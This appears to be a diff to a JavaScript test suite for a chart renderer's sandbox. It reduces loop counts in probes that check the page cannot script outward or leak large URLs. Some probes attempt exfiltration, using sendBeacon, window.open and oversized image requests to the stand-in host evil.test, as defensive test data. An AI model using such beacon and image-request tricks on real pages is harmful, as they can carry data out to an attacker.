@@ -237,10 +237,11 @@ describe('containment: bounded output that cannot script', function () {
     });
 
     it('same-origin script loads with 1 MB query strings stay bounded', async () => {
-      // 10 of each (20 MB of URLs): the page's own work on 30 of each took 1.3-2.2 s of the 3 s
-      // deadline on a machine running the test suite beside it, and over 3 s once in CI
+      // 5 of each (10 MB of URLs): one page event carrying one URL is already over the 1 MB bound,
+      // so a few loads find a leak as surely as many; the page's own work must end within the 3 s
+      // deadline on a loaded machine (30 of each took 1.3-2.2 s beside the suite, over 3 s once)
       const probe = `var q = '?' + 'q'.repeat(1024 * 1024);
-        for (var i = 0; i < 10; i++) { var el = document.createElement('script'); el.src = 'http://renderer.chartshot.invalid/harness.js' + q + i; document.head.appendChild(el);
+        for (var i = 0; i < 5; i++) { var el = document.createElement('script'); el.src = 'http://renderer.chartshot.invalid/harness.js' + q + i; document.head.appendChild(el);
           import('http://renderer.chartshot.invalid/lockdown.js' + q + 'm' + i).catch(function(){}); }`;
       const { deltaMb, status, eventMb } = await rssDuring(withTickFn(probe));
       expect(status).to.equal(200);
@@ -249,11 +250,13 @@ describe('containment: bounded output that cannot script', function () {
     });
 
     it('fetch, XHR, WebSocket, sendBeacon and window.open are gone; image requests with huge URLs stay bounded', async () => {
+      // 8 images of 1 MB URLs (as above: one leaked URL is over the bound; 30 ran past the 3 s
+      // deadline on a loaded machine)
       const probe = `var gone = [typeof fetch, typeof XMLHttpRequest, typeof WebSocket, typeof EventSource, typeof Worker].join(',');
         if (gone !== 'undefined,undefined,undefined,undefined,undefined') throw new Error('still there: ' + gone);
         if (navigator.sendBeacon('http://evil.test/', 'x') !== false || window.open('http://evil.test/') !== null) throw new Error('beacon or popup');
         var u = 'http://evil.test/' + 'u'.repeat(1024 * 1024);
-        for (var i = 0; i < 30; i++) { new Image().src = u + i; }`;
+        for (var i = 0; i < 8; i++) { new Image().src = u + i; }`;
       const { deltaMb, status, eventMb } = await rssDuring(withTickFn(probe));
       expect(status).to.equal(200);
       expect(eventMb, `${eventMb.toFixed(1)} MB of page events reached Node`).to.be.below(1);
